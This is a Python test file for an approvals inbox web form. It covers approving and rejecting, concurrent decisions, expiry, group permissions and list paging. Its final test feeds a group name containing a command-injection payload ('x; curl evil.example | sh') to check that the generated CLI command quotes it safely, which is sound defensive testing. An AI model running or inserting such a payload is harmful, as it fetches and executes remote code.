"""Decisions by the inbox's form: the same rules, the same audit, the same events as by the API."""

import asyncio
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from services.approvals.domain.principals import Principal
from services.approvals.web.choosing import asked_of
from shared.contracts.approvals import ApprovalDecided
from tests.unit.approvals.browsing import log_in
from tests.unit.approvals.desk import Desk, event_of, until
from tests.unit.approvals.test_pages import RUN, fill, question

ID = f"{RUN}.1:before:1"


async def kept(desk: Desk) -> dict[str, Any]:
    (approval,) = await desk.docs("approvals", _id=ID)
    return approval


class TestDeciding:
    async def test_an_answer_is_kept_audited_and_said(self, desk: Desk) -> None:
        await fill(desk)
        tab = await log_in(desk, "pat")
        answer = await tab.send(f"/inbox/{ID}", decision="approve", comment="fine", digest="d")
        assert (answer.status_code, answer.headers["location"][:12]) == (303, "/inbox?done=")
        assert "You have approved: May it start?" in (await tab.get(answer.headers["location"])).text
        assert ((await kept(desk))["state"], (await kept(desk))["comment"]) == ("approve", "fine")
        (entry,) = await desk.docs("audit", what="decide")
        assert (entry["who"], entry["detail"]) == ("pat", {"decision": "approve", "comment": "fine", "digest": "d", "task": f"{RUN}.1"})

        async def said() -> bool:
            return bool(event_of(desk.said, ApprovalDecided, RUN))

        await until(said)

    async def test_what_changed_since_is_not_approved(self, desk: Desk) -> None:
        await fill(desk)
        answer = await (await log_in(desk, "pat")).send(f"/inbox/{ID}", decision="approve", comment="keep me", digest="older")
        assert (answer.status_code, "something else than you were shown" in answer.text) == (409, True)
        assert ">keep me</textarea>" in answer.text
        assert (await kept(desk))["state"] == "pending"

    async def test_of_two_one_wins_and_the_other_is_told_by_whom(self, desk: Desk) -> None:
        await fill(desk)
        pat, rob = await log_in(desk, "pat"), await log_in(desk, "rob")
        answers = await asyncio.gather(
            pat.send(f"/inbox/{ID}", decision="approve", digest="d"), rob.send(f"/inbox/{ID}", decision="reject", digest="d")
        )
        assert sorted(answer.status_code for answer in answers) == [303, 409]
        lost = next(answer.text for answer in answers if answer.status_code == 409)
        winner = (await kept(desk))["decided_by"]
        assert "somebody was faster" in lost
        assert f"by {winner}" in lost
        assert len((await kept(desk))["decisions"]) == 1
        assert 'value="approve"' not in lost

    @pytest.mark.parametrize(
        ("change", "words"),
        [
            ({"state": "approve", "decisions": [{"by": "rob", "decision": "approve", "comment": ""}]}, "somebody was faster"),
            ({"state": "approve", "decisions": [{"by": "pat", "decision": "approve", "comment": ""}]}, "You had answered already"),
            ({"state": "expired"}, "its time had run out"),
            ({"expires_at": datetime(2026, 1, 1, tzinfo=UTC)}, "its time had run out"),
            ({"state": "withdrawn"}, "nobody waits for it any more"),
        ],
    )
    async def test_what_is_not_taken_is_shown_with_why(self, desk: Desk, change: dict[str, Any], words: str) -> None:
        await fill(desk)
        tab = await log_in(desk, "pat")
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": change})
        fields = {"decision": "reject", "comment": "a long reason", "summary": "a result", "data": '{"a": 1}'}
        for headers in ({}, {"HX-Request": "true"}):
            answer = await tab.send(f"/inbox/{ID}", digest="d", headers=headers, **fields)
            assert (answer.status_code, words in answer.text) == (409, True)
            assert ("somebody was faster" in answer.text) == ("faster" in words)
            assert all(f">{text}</pre>" in answer.text for text in ("a long reason", "a result", "{&#34;a&#34;: 1}"))

    async def test_who_was_never_asked_was_not_too_slow(self, desk: Desk) -> None:
        await fill(desk)
        change = {"state": "reject", "approvers": ["ops"], "decisions": [{"by": "rob", "decision": "reject", "comment": ""}]}
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": change})
        answer = await (await log_in(desk, "pat")).send(f"/inbox/{ID}", decision="approve", comment="mine")
        assert (answer.status_code, "somebody was faster" in answer.text, ">mine</pre>" in answer.text) == (403, False, True)

    async def test_several_must_approve(self, desk: Desk) -> None:
        await fill(desk)
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": {"required": 2}})
        pat = await log_in(desk, "pat")
        after = await pat.get((await pat.send(f"/inbox/{ID}", decision="approve")).headers["location"])
        assert "Your approval counts: 1 of 2" in after.text
        assert "You have answered. 2 different people must" in (await pat.get(f"/inbox/{ID}")).text
        await (await log_in(desk, "rob")).send(f"/inbox/{ID}", decision="approve")
        assert (await kept(desk))["state"] == "approve"

    async def test_a_group_decides_what_it_is_asked(self, desk: Desk) -> None:
        await fill(desk)
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": {"approvers": ["release"]}})
        quinn = await log_in(desk, "quinn")
        assert "This is a question to release" in (await quinn.get(f"/inbox/{ID}")).text
        assert (await quinn.send(f"/inbox/{ID}", decision="approve")).status_code == 403
        assert "taskgrove open" not in (await quinn.get(f"/inbox/{ID}")).text
        assert "taskgrove open --as NAME --group release" in (await (await log_in(desk, "ada")).get(f"/inbox/{ID}")).text
        assert (await (await log_in(desk, "rob")).send(f"/inbox/{ID}", decision="approve")).status_code == 303

    async def test_what_ran_out_or_went_on_is_told(self, desk: Desk) -> None:
        await fill(desk)
        tab = await log_in(desk, "pat")
        soon = desk.ground.clock.now() + timedelta(minutes=90)
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": {"expires_at": soon}})
        assert "Runs out" in (await tab.get(f"/inbox/{ID}")).text
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": {"expires_at": desk.ground.clock.now()}})
        assert "its time ran out" in (await tab.get(f"/inbox/{ID}")).text
        assert (await tab.send(f"/inbox/{ID}", decision="approve")).status_code == 409
        await desk.ground.database["approvals"].update({"_id": ID}, {"$set": {"expires_at": None}})
        await desk.ground.database["tasks"].update({"_id": f"{RUN}.1"}, {"$set": {"approval_id": None}})
        assert "went on without it" in (await tab.get(f"/inbox/{ID}")).text

    @pytest.mark.parametrize("data", ["{", "[1]", '"x"', '{"a": 1' + "0" * 400 + "}"])
    async def test_a_result_must_be_an_object_of_json(self, desk: Desk, data: str) -> None:
        await fill(desk)
        change = {"$set": {"kind": "escalation", "choices": ["retry", "take_over", "skip", "fail"]}}
        await desk.ground.database["approvals"].update({"_id": ID}, change)
        answer = await (await log_in(desk, "pat")).send(f"/inbox/{ID}", decision="take_over", summary="done", data=data)
        assert (answer.status_code, 'role="alert"' in answer.text, ">done</textarea>" in answer.text) == (422, True, True)
        assert (await kept(desk))["state"] == "pending"

    async def test_taking_over_brings_the_result(self, desk: Desk) -> None:
        await fill(desk)
        change = {"$set": {"kind": "escalation", "choices": ["retry", "take_over", "skip", "fail"]}}
        await desk.ground.database["approvals"].update({"_id": ID}, change)
        tab = await log_in(desk, "pat")
        assert (await tab.send(f"/inbox/{ID}", decision="take_over")).status_code == 422
        assert (await tab.send(f"/inbox/{ID}", decision="take_over", summary="done", data='{"a": 1}')).status_code == 303
        assert (await kept(desk))["result"] == {"summary": "done", "artifacts": [], "data": {"a": 1}}

    async def test_an_agent_is_answered(self, desk: Desk) -> None:
        await fill(desk)
        change = {"$set": {"kind": "question", "choices": ["answer", "take_over", "skip", "fail"]}}
        await desk.ground.database["approvals"].update({"_id": ID}, change)
        tab = await log_in(desk, "pat")
        assert "Answer or comment" in (await tab.get(f"/inbox/{ID}")).text
        assert (await tab.send(f"/inbox/{ID}", decision="answer")).status_code == 422
        assert (await tab.send(f"/inbox/{ID}", decision="answer", comment="blue")).status_code == 303
        assert ((await kept(desk))["state"], (await kept(desk))["comment"]) == ("answer", "blue")


class TestList:
    async def test_filters(self, desk: Desk) -> None:
        await fill(desk)
        now = desk.ground.clock.now()
        others = question(f"{RUN}.2:x:1", task_id="elsewhere", question="For others?", approvers=["ops"], requested_at=now)
        settled = question(f"{RUN}.3:x:1", task_id="elsewhere", question="Settled?", state="reject", requested_at=now)
        await desk.put("approvals", others, settled)
        tab = await log_in(desk, "pat")
        shown = {show: (await tab.get(f"/inbox?show={show}")).text for show in ("pending", "mine", "all", "nonsense")}
        assert {show: ("For others?" in text, "Settled?" in text) for show, text in shown.items()} == {
            "pending": (True, False), "mine": (False, False), "all": (True, True), "nonsense": (True, False),
        }  # fmt: skip
        assert "No questions" in (await tab.get("/inbox?run=other")).text
        assert "Nothing waits for a person" in (await (await log_in(desk, "vic")).get("/inbox?show=mine")).text

    async def test_the_number_beside_it_is_what_waits_for_oneself(self, desk: Desk) -> None:
        await fill(desk)
        for name, number in (("pat", "1"), ("vic", "")):
            assert f">{number}</span>" in (await (await log_in(desk, name)).get("/ui/waiting")).text

    async def test_news_come_only_when_there_are_some(self, desk: Desk) -> None:
        await fill(desk)
        tab = await log_in(desk, "pat")
        page = (await tab.get("/inbox")).text
        url = page.partition('hx-get="/ui/inbox?')[2].partition('"')[0].replace("&amp;", "&")
        same = await tab.get(f"/ui/inbox?{url}")
        assert (same.status_code, "hx-trigger" in same.headers) == (204, False)
        await tab.send(f"/inbox/{ID}", decision="approve")
        assert (await tab.get(f"/ui/inbox?{url}")).headers["hx-trigger"] == "inbox-changed"

    @pytest.mark.parametrize("show", ["pending", "all"])
    async def test_it_is_news_when_one_comes_as_another_goes(self, desk: Desk, show: str) -> None:
        now = desk.ground.clock.now()
        first, second, last = (question(f"{RUN}.{n}:x:1", task_id="elsewhere", requested_at=now) for n in (1, 2, 3))
        await desk.put("approvals", first, last)
        tab = await log_in(desk, "pat")
        url = (await tab.get(f"/inbox?show={show}")).text.partition('hx-get="/ui/inbox?')[2].partition('"')[0].replace("&amp;", "&")
        await desk.deps.approvals.withdraw({"_id": first["_id"]})
        if show == "pending":
            await desk.put("approvals", second)
        assert (await tab.get(f"/ui/inbox?{url}")).headers["hx-trigger"] == "inbox-changed"

    async def test_many_are_shown_in_pages(self, desk: Desk) -> None:
        now = desk.ground.clock.now()
        await desk.put(
            "approvals", *(question(f"q{n:03d}", task_id="gone", question=f"Number {n:03d}", requested_at=now) for n in range(60))
        )
        tab = await log_in(desk, "pat")
        first = (await tab.get("/inbox")).text
        url = first.rpartition('href="/inbox?')[2].partition('"')[0].replace("&amp;", "&")
        second = (await tab.get(f"/inbox?{url}")).text
        assert ("Number 049" in first, "Number 050" in first, "Number 050" in second, "Number 059" in second) == (True, False, True, True)


def test_the_name_of_a_group_is_no_command_of_its_own() -> None:
    asking = question(ID, approvers=["x; curl evil.example | sh"])
    admin = Principal("ada", frozenset({"admin"}), frozenset())
    asked = asked_of(asking, admin, withdrawn=False, now=datetime.now(UTC))
    assert shlex.split(asked.command) == ["taskgrove", "open", "--as", "NAME", "--group", "x; curl evil.example | sh"]
